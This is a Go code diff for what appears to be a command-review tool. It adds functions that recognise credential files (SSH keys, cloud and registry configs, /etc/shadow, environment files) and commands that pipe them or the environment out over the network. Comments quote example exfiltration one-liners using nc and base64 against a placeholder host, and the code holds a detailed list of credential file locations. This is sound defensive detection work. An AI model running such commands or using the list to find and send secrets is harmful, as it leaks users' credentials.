@@ -367,31 +367,117 @@ func CriticalPath(skip int) Cond {
 // /home/alice/.aws/credentials): configuration and keys that no version
 // control keeps.
 func HomeDotfile(p string) bool {
+	rest, ok := homeRelative(p)
+	return ok && strings.HasPrefix(rest, ".") && !strings.HasPrefix(rest, "..") && rest != "."
+}
+
+// homeRelative returns p relative to the home directory it lies in
+// (~/.ssh/id_rsa, $HOME/x, /home/alice/x, /root/x, C:\Users\NAME\x), and
+// false for a path in no home directory.
+func homeRelative(p string) (string, bool) {
 	if isWindowsPath(p) { // C:\Users\NAME\.ssh\authorized_keys
 		p = "/" + strings.ReplaceAll(p[3:], "\\", "/")
 	}
-	var rest string
 	switch {
 	case strings.HasPrefix(p, "~/"):
-		rest = p[2:]
+		return p[2:], true
 	case strings.HasPrefix(p, "$HOME/"):
-		rest = p[len("$HOME/"):]
+		return p[len("$HOME/"):], true
 	case strings.HasPrefix(p, "${HOME}/"):
-		rest = p[len("${HOME}/"):]
-	default:
-		parts := strings.SplitN(strings.TrimPrefix(path.Clean(p), "/"), "/", 3)
-		switch {
-		case !path.IsAbs(p):
-			return false
-		case (parts[0] == "home" || parts[0] == "Users") && len(parts) == 3:
-			rest = parts[2]
-		case parts[0] == "root" && len(parts) >= 2:
-			rest = strings.Join(parts[1:], "/")
-		default:
+		return p[len("${HOME}/"):], true
+	}
+	parts := strings.SplitN(strings.TrimPrefix(path.Clean(p), "/"), "/", 3)
+	switch {
+	case !path.IsAbs(p):
+		return "", false
+	case (parts[0] == "home" || parts[0] == "Users") && len(parts) == 3:
+		return parts[2], true
+	case parts[0] == "root" && len(parts) >= 2:
+		return strings.Join(parts[1:], "/"), true
+	}
+	return "", false
+}
+
+// secretHomeFiles are the files and directories of a home directory that
+// hold credentials; a directory's whole tree counts.
+var secretHomeFiles = []string{".ssh", ".aws", ".kube/config", ".docker/config.json", ".netrc", ".npmrc", ".pypirc", ".git-credentials",
+	".gnupg", ".config/gh/hosts.yml", ".config/gcloud", ".azure", ".terraform.d/credentials.tfrc.json", ".vault-token", ".pgpass",
+	".my.cnf", ".boto", ".cargo/credentials", ".cargo/credentials.toml", ".gem/credentials", ".password-store", ".config/hub",
+	".config/op", ".oci", ".config/doctl", ".fly/config.yml", ".config/helm/repositories.yaml", ".databrickscfg", ".snowsql/config"}
+
+// publicSSHFiles are the files of ~/.ssh that hold no secret.
+var publicSSHFiles = []string{"known_hosts", "known_hosts.old", "config", "authorized_keys", "authorized_keys2"}
+
+// SecretFile reports whether p names credentials: a private key
+// (~/.ssh/id_ed25519, or any id_rsa), a home directory's credential file
+// or directory (~/.aws/credentials, ~/.kube/config, ~/.netrc, ~/.gnupg
+// ...), an environment file, or the system's password hashes and host
+// keys (/etc/shadow, /etc/ssh/ssh_host_ed25519_key). Public keys,
+// known_hosts and ~/.ssh/config are not.
+func SecretFile(p string) bool {
+	if strings.Contains(p, "://") { // a remote object (s3://b/.env) is not a file here
+		return false
+	}
+	p = strings.TrimSuffix(strings.TrimSuffix(p, "/."), "/")
+	base := path.Base(p)
+	if strings.HasSuffix(base, ".pub") {
+		return false
+	}
+	if EnvFile(p) || slices.Contains([]string{"id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "id_ecdsa_sk", "id_ed25519_sk"}, base) {
+		return true
+	}
+	if rest, ok := homeRelative(p); ok {
+		if dir, file, _ := strings.Cut(rest, "/"); dir == ".ssh" && slices.Contains(publicSSHFiles, file) {
 			return false
 		}
+		return slices.ContainsFunc(secretHomeFiles, func(f string) bool { return rest == f || strings.HasPrefix(rest, f+"/") })
 	}
-	return strings.HasPrefix(rest, ".") && !strings.HasPrefix(rest, "..") && rest != "."
+	switch clean := path.Clean(p); {
+	case clean == "/etc/shadow" || clean == "/etc/gshadow" || clean == "/etc/ssl/private" || strings.HasPrefix(clean, "/etc/ssl/private/"):
+		return true
+	case strings.HasPrefix(clean, "/etc/ssh/ssh_host_") && strings.HasSuffix(clean, "_key"):
+		return true
+	}
+	return false
+}
+
+// SendsSecretReason says why sending a credential file away needs review.
+const SendsSecretReason = "sends a credential file (a private key, cloud, cluster or registry credentials, an environment file, password hashes) off this machine: once the other side has read it, it cannot be taken back, and whether that side should have it is not in the input"
+
+// SecretIs holds when an operand after skip names credentials
+// (SecretFile).
+func SecretIs(skip int) Cond {
+	return operandWhere(skip, "a credential file", func(_ Facts, a model.Arg) bool { return SecretFile(a.Value) })
+}
+
+// SecretStdin holds when the command's stdin carries credentials
+// (SecretOnStdin): nc host 80 < ~/.aws/credentials, cat ~/.ssh/id_rsa |
+// base64 | nc host 80, env | nc host 80.
+func SecretStdin() Cond {
+	return Func("stdin carries a credential file", func(f Facts) Result {
+		if ev, ok := SecretOnStdin(f.M.Command); ok {
+			return Result{Truth: True, Evidence: []model.Evidence{ev}}
+		}
+		return Result{Truth: False}
+	})
+}
+
+// SecretOnStdin reports whether c's stdin carries credentials, with the
+// evidence: a redirection from a credential file, or a pipe from commands
+// that name one or print the environment (env, printenv).
+func SecretOnStdin(c *model.Command) (model.Evidence, bool) {
+	if file, ok := strings.CutPrefix(c.StdinFrom, "file "); ok && SecretFile(strings.Trim(file, `'"`)) {
+		return model.Evidence{Key: "stdin", Value: file, Present: true, Description: "a credential file"}, true
+	}
+	for _, a := range c.PipedArgs {
+		switch {
+		case SecretFile(a.Value):
+			return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "a credential file"}, true
+		case a.Value == "env" || a.Value == "printenv":
+			return model.Evidence{Key: "piped from", Value: a.Value, Present: true, Description: "the environment, where tokens and keys are often kept"}, true
+		}
+	}
+	return model.Evidence{}, false
 }
 
 // EnvFile reports whether p is an environment file: .env or .env.NAME,
